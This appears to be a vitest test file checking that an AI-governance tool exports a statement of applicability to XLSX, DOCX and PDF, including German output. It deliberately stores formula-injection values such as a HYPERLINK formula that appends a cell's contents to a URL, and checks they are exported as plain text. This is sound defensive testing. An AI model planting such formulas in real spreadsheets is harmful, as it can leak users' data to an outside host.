import { writeFileSync } from 'node:fs'
import { read, utils } from '@e965/xlsx'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { canOpen, openPdf, printDocx } from '#test/documents/opened.ts'
import type { Page } from '#test/journeys/driver/person.ts'
import { aHouse, answered, drawn, fine, type House, inForce, rowOf, tailors } from './stating.ts'

type Row = Readonly<Record<string, unknown>>

let house: House
let statement: Page
const dangerous = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
beforeAll(async () => {
  house = await aHouse()
  const { milo, pat } = house
  const risk = await milo.among('tasks').raises({ title: 'Unfair ranking', owner: pat.id })
  const system = await milo.among('ai-systems').raises({ title: 'TalentSift', owner: pat.id, origin: 'thirdParty' })
  statement = await drawn(house)
  await answered(house, statement, {
    'A.2.2': { justification: dangerous, due: '2026-04-01', treats: [risk.id] },
    'A.7.2': { applicable: false, justification: 'Nothing is trained here', status: null, owner: null },
    'A.10.4': { status: 'implemented', evidence: '+49 40 1234: the customers’ panel' },
  })
  const row = await rowOf(milo, statement, 'A.7.3')
  const answers = [{ row: row.id, version: 0, applicable: false, justification: 'The supplier’s data', status: null }]
  await tailors(milo, statement, { system: system.id, answers })
  await fine(
    milo.asks('POST', `/statements-of-applicability/${statement.id}/rows`, {
      body: { ref: 'L.1', title: '@SUM(A1) two people look at it' },
    }),
    201,
  )
  const own = await rowOf(milo, statement, 'L.1')
  await milo.asks('PUT', `/statements-of-applicability/${statement.id}/rows/${own.id}`, {
    body: { applicable: true, justification: 'Our own rule', status: 'planned', owner: pat.id },
    headers: { 'if-match': `"${own.version}"` },
  })
  await inForce(house, statement)
})
afterAll(() => house.world.close())

async function file(path: string) {
  const answer = await fetch(`${house.world.address}/api/v1/statements-of-applicability/${statement.number}/${path}`, {
    headers: { authorization: `Bearer ${house.tess.token}` },
  })
  expect(answer.status).toBe(200)
  return { answer, bytes: new Uint8Array(await answer.arrayBuffer()) }
}

describe('as a workbook', () => {
  test('what begins like a formula is text, and marked so that editing it makes it none', async () => {
    const { answer, bytes } = await file('workbook')
    expect(answer.headers.get('content-disposition')).toContain(`${statement.number}.xlsx`)
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!)
    expect(sheet).not.toContain('<f>')
    for (const start of ['=HYPERLINK', '+49 40', '@SUM'])
      expect(sheet).toMatch(
        new RegExp(`s="5" t="inlineStr"><is><t xml:space="preserve">\\${start.slice(0, 1)}${start.slice(1)}`),
      )
    expect((await file('workbook')).bytes).toEqual(bytes)
  })

  test('C-315 another program reads the 38 controls and one’s own in it, in the reader’s language, with real days', async () => {
    const book = read((await file('workbook?language=de')).bytes, { cellDates: true })
    expect(book.SheetNames).toEqual(['Maßnahmen', 'Auf KI-Systeme zugeschnitten', 'Über'])
    const [controls, tailoring] = book.SheetNames.map((name) => utils.sheet_to_json(book.Sheets[name]!) as Row[])
    expect(controls).toHaveLength(39)
    expect(controls?.[0]).toMatchObject({ Maßnahme: 'A.2.2', Gilt: 'Ja', 'Warum sie gilt oder nicht': dangerous })
    expect(controls?.[0]?.Bis).toEqual(new Date(Date.UTC(2026, 3, 1)))
    expect(controls?.filter((row) => row.Gilt === 'Nein').map((row) => row['Warum sie gilt oder nicht'])).toEqual([
      'Nothing is trained here',
    ])
    expect(tailoring).toMatchObject([{ Maßnahme: 'A.7.3', Gilt: 'Nein', 'Warum es abweicht': 'The supplier’s data' }])
  })
})

describe.skipIf(!canOpen)(
  'C-315 which controls are implemented and why, as a document that other programs open',
  () => {
    // Both at once: while another program opens one, this one answers nobody.
    let docx: Uint8Array
    let pdf: Uint8Array
    beforeAll(async () => {
      docx = (await file('file?format=docx')).bytes
      pdf = (await file('file?format=pdf&language=de')).bytes
    })

    test('38 rows and one’s own, justified both ways, with approval and tailoring', () => {
      if (process.env.KEEP_DOCUMENTS) writeFileSync(`${process.env.KEEP_DOCUMENTS}/statement.docx`, docx)
      const { text } = openPdf(printDocx(docx))
      for (const ref of ['A.2.2', 'A.6.2.5', 'A.10.4', 'L.1']) expect(text).toContain(ref)
      expect(text.replace(/\s+/g, ' ')).toContain('39 controls: 38 apply, 1 left out, 1 implemented or verified.')
      for (const said of ['Nothing is trained', 'TalentSift', 'The supplier’s', 'Approved by Tess', 'Unfair'])
        expect(text).toContain(said)
    })

    test('as PDF it is tagged, in German when asked', () => {
      if (process.env.KEEP_DOCUMENTS) writeFileSync(`${process.env.KEEP_DOCUMENTS}/statement.pdf`, pdf)
      const { text, about } = openPdf(pdf)
      expect(about.Tagged).toBe('yes')
      expect(text).toContain('Auf KI-Systeme zugeschnitten')
    })
  },
)
